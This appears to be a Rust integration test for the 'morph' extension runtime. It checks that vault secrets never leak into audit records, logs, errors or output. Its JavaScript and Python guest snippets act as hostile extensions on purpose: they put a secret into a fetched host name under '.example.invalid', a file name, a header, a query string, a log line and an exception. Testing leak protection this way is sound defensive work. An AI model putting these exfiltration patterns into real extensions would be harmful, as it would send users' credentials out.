//! Issue 26, point 4, through the real `morph` binary: no vault value in any
//! record or message. A JavaScript and a Python guest (one test body) read
//! their secrets and use them as a host name, a file name, a header, a query,
//! a log line and an exception message; the audit log, the witness, the
//! envelope and stderr hold none of them in any encoding, only
//! `[vault:KEY]` markers.

use std::path::Path;
use std::process::{Command, Stdio};

use morph_testkit::{PackageSpec, TestServer};
use serde_json::{Value, json};

use crate::vault::{contains, distinctive_secret, hits, needles};

const ACTIONS: &str = "actions:
  - {name: leak, description: Uses its secrets everywhere, parameters: [{name: url, type: string, required: true}]}
";

/// The same steps in both languages; each failure is caught so that every
/// use happens, then the call fails with the secret in its message.
const GUESTS: [(&str, &str, &str); 2] = [
    (
        "js",
        "index.js",
        r#"
export function execute(action, params) {
  const token = morph.vault.get("token");
  const host = morph.vault.get("host");
  const attempt = (f) => { try { f(); } catch (e) { morph.log("refused: " + e.message); } };
  attempt(() => morph.http.fetch("http://" + host + ".example.invalid/"));
  attempt(() => morph.fs.write(host + ".txt", "x"));
  attempt(() => morph.http.fetch({ url: params.url + "?t=" + encodeURIComponent(token), headers: { "x-token": token } }));
  morph.log("the token is " + token);
  throw new Error("gave up with " + token + " and " + host);
}
"#,
    ),
    (
        "python",
        "main.py",
        r#"
import urllib.parse
import morph

def attempt(f):
    try:
        f()
    except morph.MorphError as e:
        morph.log("refused: " + e.message)

def execute(action, params):
    token = morph.vault.get("token")
    host = morph.vault.get("host")
    attempt(lambda: morph.http.fetch("http://" + host + ".example.invalid/"))
    attempt(lambda: morph.fs.write(host + ".txt", "x"))
    attempt(lambda: morph.http.fetch({"url": params["url"] + "?t=" + urllib.parse.quote(token), "headers": {"x-token": token}}))
    morph.log("the token is " + token)
    raise ValueError("gave up with " + token + " and " + host)
"#,
    ),
];

fn morph(data: &Path, witness: &Path, args: &[&str], stdin: &str) -> (Value, Vec<u8>, Vec<u8>) {
    use std::io::Write;
    let mut child = Command::new(env!("CARGO_BIN_EXE_morph"))
        .args(args)
        .arg("--data-dir")
        .arg(data)
        .env("MORPH_AUDIT_WITNESS", witness)
        .env("MORPH_LOG", "debug")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let doc = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (doc, out.stdout, out.stderr)
}

/// THREATS.md, "Bypassing the broker's checks": secrets never reach logs,
/// audit or errors.
#[test]
fn no_vault_value_reaches_a_record_a_log_an_error_or_the_envelope() {
    let server = TestServer::text("ok");
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let witness = tmp.path().join("witness.log");
    let token = distinctive_secret();
    // A host name must be one: letters, digits and dashes.
    let host = format!("h{}", &hex::encode(distinctive_secret().as_bytes())[10..34]);
    let mut printed = Vec::new();
    for (runtime, entry, code) in GUESTS {
        let id = format!("leaky-{runtime}");
        let package = PackageSpec::new(&id, runtime, entry, code, ACTIONS)
            .permissions(&["vault:read", "http:read", "fs:write"])
            .allowed_hosts(&[&server.host()])
            .write(&tmp.path().join("packages"));
        for (key, value) in [("token", &token), ("host", &host)] {
            let (doc, out, err) = morph(
                &data,
                &witness,
                &["vault", "set", &id, key, "--json"],
                &format!("{value}\n"),
            );
            assert_eq!(doc["ok"], true, "{doc}");
            printed.push((out, err));
        }
        let params = json!({"url": server.url("/echo")}).to_string();
        let (doc, out, err) = morph(
            &data,
            &witness,
            &[
                "run",
                package.to_str().unwrap(),
                "leak",
                "--params",
                &params,
                "--json",
            ],
            "",
        );
        assert_eq!(doc["ok"], false, "{runtime}: {doc}");
        let message = doc["error"]["message"].as_str().unwrap();
        assert!(
            message.contains("[vault:token]") && message.contains("[vault:host]"),
            "{runtime}: {message}"
        );
        let logs = String::from_utf8_lossy(&err);
        assert!(
            logs.contains("the token is [vault:token]"),
            "{runtime}: {logs}"
        );
        let refusals = doc["audit"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["outcome"] == "host_not_allowed")
            .count();
        assert_eq!(refusals, 1, "{runtime}: {doc}");
        printed.push((out, err));
    }
    // The server did get the token: the guest may send its own secret to a
    // host its manifest allows (bind it with --hosts to stop that).
    assert!(
        server
            .seen()
            .iter()
            .any(|s| s.header("x-token") == Some(token.as_str()))
    );

    for secret in [&token, &host] {
        let needles = needles(secret);
        // Everything Morph wrote: the data dir (but the extension's own
        // files, whose names the guest chose) and the witness.
        let mut found: Vec<_> = hits(&data, &needles)
            .into_iter()
            .filter(|(path, _)| !path.starts_with(data.join("files")))
            .collect();
        found.extend(
            hits(tmp.path().join("witness.log").parent().unwrap(), &needles)
                .into_iter()
                .filter(|(path, _)| path == &witness),
        );
        assert!(found.is_empty(), "{secret} leaked: {found:?}");
        for (out, err) in &printed {
            for (encoding, needle) in &needles {
                assert!(!contains(out, needle), "stdout holds it ({encoding})");
                assert!(!contains(err, needle), "stderr holds it ({encoding})");
            }
        }
    }
}
